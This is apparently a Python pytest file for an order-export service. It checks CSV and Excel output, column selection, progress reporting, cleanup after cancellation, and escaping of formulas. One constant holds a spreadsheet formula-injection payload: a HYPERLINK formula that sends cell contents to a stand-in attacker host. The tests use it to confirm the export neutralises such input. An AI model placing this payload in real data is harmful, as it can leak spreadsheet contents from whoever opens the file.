"""Exporting orders to CSV and Excel: the filter's orders in its order (or
the ones chosen), the table's columns or all of them, formula-safe cells,
numbers and dates typed, progress, and a cancel that leaves no file."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from app.cache import OrderCache
from app.domain.queries import OrderQuery
from app.sandbox.seed import seed_orders
from app.services.orders.export import (
    ALL_COLUMNS,
    TABLE_COLUMNS,
    ExportCancelled,
    export_orders,
)
from tests.helpers.sandbox import FIXED_NOW

EVIL = '=HYPERLINK("http://evil.example?"&A1,"Click")'


@pytest.fixture
def cache(tmp_path):
    orders = seed_orders(120, 7, FIXED_NOW, 4870020)
    orders[0] = dict(orders[0], billingPerson={"name": EVIL, "phone": "+44 20 7946 0958"})
    with OrderCache.open(tmp_path / "orders.sqlite3") as cache:
        cache.upsert_orders(orders, generation=1)
        cache.delete_unseen(1)
        yield cache


def test_csv_of_a_filter_in_its_order_with_the_table_columns(cache, tmp_path):
    query = OrderQuery(payment_status=["PAID"])
    target = tmp_path / "paid.csv"
    seen: list[tuple[int, int]] = []
    written = export_orders(
        cache, target, columns=list(TABLE_COLUMNS), query=query, progress=lambda *p: seen.append(p)
    )
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    expected = cache.rows(query, 0, 10_000)
    assert written == len(expected) == len(rows) - 1 > 0
    assert rows[0] == [column.heading for column in TABLE_COLUMNS.values()]
    assert [row[0] for row in rows[1:]] == [row.number for row in expected]
    assert {row[6] for row in rows[1:]} == {"Paid"}  # statuses in words
    assert seen[-1] == (written, written)


def test_a_formula_in_store_data_is_text_in_csv_and_in_xlsx(cache, tmp_path):
    key = next(row.key for row in cache.rows(OrderQuery(include_incomplete=True), 0, 500)
               if row.customer == EVIL)  # fmt: skip
    csv_file, xlsx_file = tmp_path / "o.csv", tmp_path / "o.xlsx"
    export_orders(cache, csv_file, columns=["number", "customer", "phone"], keys=[key])
    with csv_file.open(encoding="utf-8-sig", newline="") as handle:
        [_, row] = list(csv.reader(handle))
    assert row[1] == "'" + EVIL and row[2] == "'+44 20 7946 0958"  # (it starts like one too)
    export_orders(
        cache, xlsx_file, columns=["customer", "total", "date"], keys=[key], file_format="xlsx"
    )
    sheet = load_workbook(xlsx_file).active
    customer, total, date = (cell for cell in sheet[2])
    assert (customer.value, customer.data_type) == (EVIL, "s")  # text, never a formula
    assert isinstance(total.value, float | int) and date.is_date


def test_all_columns_and_the_chosen_orders_in_the_order_chosen(cache, tmp_path):
    keys = [row.key for row in cache.rows(OrderQuery(), 0, 5)][::-1]
    target = tmp_path / "chosen.xlsx"
    assert export_orders(cache, target, columns=ALL_COLUMNS, keys=keys, file_format="xlsx") == 5
    sheet = load_workbook(target).active
    headings = [cell.value for cell in sheet[1]]
    assert headings[:3] == ["Order", "Date", "Customer"] and "Products" in headings
    numbers = cache.order_numbers(keys)
    assert [sheet.cell(row=i + 2, column=1).value for i in range(5)] == [numbers[k] for k in keys]


def test_a_cancelled_export_leaves_no_file(cache, tmp_path):
    target = tmp_path / "big.csv"
    with pytest.raises(ExportCancelled):
        export_orders(cache, target, columns=["number"], should_stop=lambda: True)
    assert list(tmp_path.glob("big*")) == [] and list(tmp_path.glob(".big*")) == []
    with pytest.raises(ValueError, match="Unknown column"):
        export_orders(cache, target, columns=["nope"])


def test_a_cancelled_xlsx_export_closes_its_sheet_and_leaves_no_temporary_file(
    cache, tmp_path, monkeypatch
):
    """An abandoned write-only sheet used to keep its row stream open; the
    garbage collector closed it later, in whatever test or window code ran
    then ("Exception ignored in … WriteOnlyWorksheet._write_rows")."""
    import gc
    import sys

    from openpyxl.worksheet import _writer

    unraisable: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    before = set(_writer.ALL_TEMP_FILES)
    target = tmp_path / "big.xlsx"
    with pytest.raises(ExportCancelled):
        export_orders(
            cache,
            target,
            columns=["number"],
            file_format="xlsx",
            should_stop=lambda: True,  # after the heading row was streamed
        )
    gc.collect()
    assert unraisable == []
    assert set(_writer.ALL_TEMP_FILES) == before
    assert list(tmp_path.glob("big*")) == [] and list(tmp_path.glob(".big*")) == []
